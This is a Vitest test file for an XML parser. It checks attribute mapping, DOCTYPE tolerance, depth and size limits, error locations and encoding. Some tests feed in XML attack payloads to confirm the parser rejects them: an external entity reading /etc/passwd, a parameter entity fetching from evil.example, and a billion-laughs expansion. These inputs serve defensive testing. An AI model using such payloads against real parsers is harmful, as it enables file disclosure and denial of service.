import { describe, expect, it } from 'vitest';
import iconv from 'iconv-lite';
import { parseXml } from './reader.ts';

describe('parseXml', () => {
  it('puts attributes under @name and text under #text, and makes repeated elements arrays', () => {
    const d = parseXml('<?xml version="1.0"?><Order id="7"><Line n="1">A</Line><Line n="2">B</Line><Note>x</Note></Order>');
    expect(d.root).toBe('Order');
    expect(d.tree.Order).toEqual({ '@id': '7', Line: [{ '@n': '1', '#text': 'A' }, { '@n': '2', '#text': 'B' }], Note: 'x' });
    const single = parseXml('<Order><Line n="1">A</Line></Order>', { arrays: ['Line'] });
    expect(single.tree.Order).toEqual({ Line: [{ '@n': '1', '#text': 'A' }] });
  });

  it('tolerates a DOCTYPE with a SYSTEM id without loading it', () => {
    const d = parseXml('<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.050/cXML.dtd"><cXML payloadID="p" timestamp="t"/>');
    expect(d.doctype).toEqual({ name: 'cXML', systemId: 'http://xml.cxml.org/schemas/cXML/1.2.050/cXML.dtd' });
  });

  it('refuses external and parameter entities', () => {
    expect(() => parseXml('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'))
      .toThrowError(expect.objectContaining({ code: 'xml_external_entity' }));
    expect(() => parseXml('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>'))
      .toThrowError(expect.objectContaining({ code: 'xml_external_entity' }));
  });

  it('bounds internal entity expansion (billion laughs stays unexpanded, oversized expansion is refused)', () => {
    const lol = '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>';
    expect(JSON.stringify(parseXml(lol).tree).length).toBeLessThan(1000);
    const big = `<!DOCTYPE x [<!ENTITY a "${'x'.repeat(9000)}">]><x>${'&a;'.repeat(200)}</x>`;
    expect(() => parseXml(big)).toThrowError(expect.objectContaining({ code: 'xml_entity_limit' }));
    expect(parseXml('<!DOCTYPE x [<!ENTITY co "ACME Sons Ltd">]><x>&co; &amp; Co</x>').tree.x).toBe('ACME Sons Ltd & Co');
  });

  it('does not count the predefined entities against the expansion bounds', () => {
    const d = parseXml(`<x>${'<i>A &amp; B &lt; C</i>'.repeat(20000)}</x>`);
    expect((d.tree.x as { i: string[] }).i).toHaveLength(20000);
    expect((d.tree.x as { i: string[] }).i[19999]).toBe('A & B < C');
  });

  it('refuses documents nested too deep, naming the path and line', () => {
    const deep = '<a>\n' + '<b>'.repeat(70) + '</b>'.repeat(70) + '</a>';
    expect(() => parseXml(deep, { maxDepth: 64 })).toThrowError(expect.objectContaining({
      code: 'xml_too_deep', detail: expect.objectContaining({ path: '/a' + '/b'.repeat(64), line: 2 }),
    }));
  });

  it('reports malformed XML with XML path, line and column', () => {
    expect(() => parseXml('<Order>\n  <Line>\n    <Qty>5</Qty>\n  </Lne>\n</Order>')).toThrowError(expect.objectContaining({
      code: 'xml_malformed', detail: expect.objectContaining({ path: '/Order/Line', line: 4 }),
    }));
    expect(() => parseXml('   ')).toThrowError(expect.objectContaining({ code: 'xml_empty' }));
  });

  it('refuses oversized input before parsing, and decodes the declared encoding', () => {
    expect(() => parseXml('<a>' + 'x'.repeat(2000) + '</a>', { maxBytes: 1000 })).toThrowError(expect.objectContaining({ code: 'xml_too_large' }));
    const latin1 = iconv.encode('<?xml version="1.0" encoding="ISO-8859-1"?><n>Müller</n>', 'latin1');
    expect(parseXml(latin1).tree.n).toBe('Müller');
  });
});
